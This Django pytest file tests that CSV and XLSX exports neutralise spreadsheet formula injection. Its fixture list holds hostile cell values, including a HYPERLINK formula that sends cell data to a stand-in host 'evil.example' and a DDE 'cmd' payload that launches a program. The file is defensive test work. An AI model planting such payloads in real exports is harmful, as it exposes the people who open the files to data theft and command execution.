"""Hostile cells (issue 19): text that a spreadsheet would run as a formula is neutralised in
every export, numbers stay numbers, XLSX text cells are strings. Read back with csv and
openpyxl, as a person's spreadsheet would read them."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import Column, neutralise, rows_to_csv, rows_to_xlsx
from tests.inventory.factories import LinkFactory
from tests.monitoring.factories import OutageFactory
from tests.support.time import at

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
    "+55 31 3915-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tcmd",
    "\rcmd",
]
COLUMNS = [
    Column("Texto", lambda row: row[0]),
    Column("Valor", lambda row: row[1]),
    Column("Minutos", lambda row: row[2]),
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_trigger_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Rua da Bahia, 1000", "BHZ-0001", "'já citado", "", "a=b"])
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text


def test_csv_neutralises_text_and_keeps_negative_numbers():
    rows = [(text, Decimal("-12.34"), -5) for text in HOSTILE]
    table = read_csv(rows_to_csv(COLUMNS, rows))
    assert [row[0] for row in table[1:]] == ["'" + text for text in HOSTILE]
    # A negative amount is still a number in the pt-BR format: no quote, decimal comma.
    assert {(row[1], row[2]) for row in table[1:]} == {("-12,34", "-5")}


def test_xlsx_text_cells_are_strings_and_numbers_are_numbers():
    rows = [(text, Decimal("-12.34"), -5) for text in [*HOSTILE, "#N/A", "=1+1"]]
    sheet = load_workbook(io.BytesIO(rows_to_xlsx(COLUMNS, rows, title="t"))).active
    for row in sheet.iter_rows(min_row=2):
        text, amount, minutes = row
        assert text.data_type == "s"
        assert amount.data_type == "n"
        assert amount.value == pytest.approx(-12.34)
        assert minutes.data_type == "n"
        assert minutes.value == -5
    texts = [row[0].value for row in sheet.iter_rows(min_row=2)]
    # (XML normalises a carriage return to a line feed when the file is read back.)
    assert texts[: len(HOSTILE)] == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert texts[-2:] == ["#N/A", "'=1+1"]
    # No cell of the file is a formula.
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_characters_xml_cannot_carry():
    sheet = load_workbook(
        io.BytesIO(rows_to_xlsx(COLUMNS, [("Rua\x00 A\x1b", Decimal(1), 1)], title="t"))
    ).active
    assert sheet.cell(2, 1).value == "Rua A"


@pytest.mark.django_db
def test_link_export_neutralises_an_address_and_a_circuit_id(client, personas, network):
    LinkFactory(
        lot=network.lot_metro,
        agency=network.agency_x,
        circuit_id="+CMD-1",
        address='=HYPERLINK("http://evil.example","x")',
    )
    client.force_login(personas.noc)
    content = client.get(reverse("inventory:link-export", args=["csv"])).content
    table = read_csv(content)
    row = next(r for r in table if r[0].endswith("CMD-1"))
    assert row[0] == "'+CMD-1"
    assert row[3] == '\'=HYPERLINK("http://evil.example","x")'
    workbook = client.get(reverse("inventory:link-export", args=["xlsx"])).content
    sheet = load_workbook(io.BytesIO(workbook)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    address = cells["'+CMD-1"][3]
    assert address.data_type == "s"
    assert address.value.startswith("'=HYPERLINK")
    assert cells["BHZ-0001"][4].data_type == "n"  # the lot number is still a number


@pytest.mark.django_db
def test_outage_export_neutralises_a_reference(client, personas, network):
    OutageFactory(link=network.link_x_metro, start=at(0), end=at(90), reference="@SUM(A1:A9)")
    client.force_login(personas.noc)
    table = read_csv(client.get(reverse("monitoring:outage-export", args=["csv"])).content)
    header, row = table[0], table[1]
    assert row[header.index("Referência")] == "'@SUM(A1:A9)"
    assert row[header.index("Minutos")] == "90"
